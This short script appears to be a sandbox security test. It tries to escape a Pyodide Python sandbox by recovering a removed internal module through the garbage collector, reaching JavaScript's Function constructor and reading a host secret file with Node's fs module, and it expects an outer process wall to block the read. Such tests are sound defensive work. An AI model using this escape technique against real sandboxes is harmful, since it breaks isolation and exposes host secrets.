# Route (gets past the Python-level blocks): the sandbox removed `_pyodide_core` from sys.modules, but
# the module object is still alive; gc.get_objects() finds it. to_js({}) is a JavaScript Map whose
# .constructor.constructor is Function. The process wall must refuse reading a host file.
import gc

core = next(obj for obj in gc.get_objects() if type(obj).__name__ == "module" and obj.__name__ == "_pyodide_core")
Function = core.to_js({}).constructor.constructor
secret = Function("path", "return process.getBuiltinModule('fs').readFileSync(path, 'utf8')")(SECRET_FILE)
print(f"ESCAPED: read the host's secret file: {secret}")
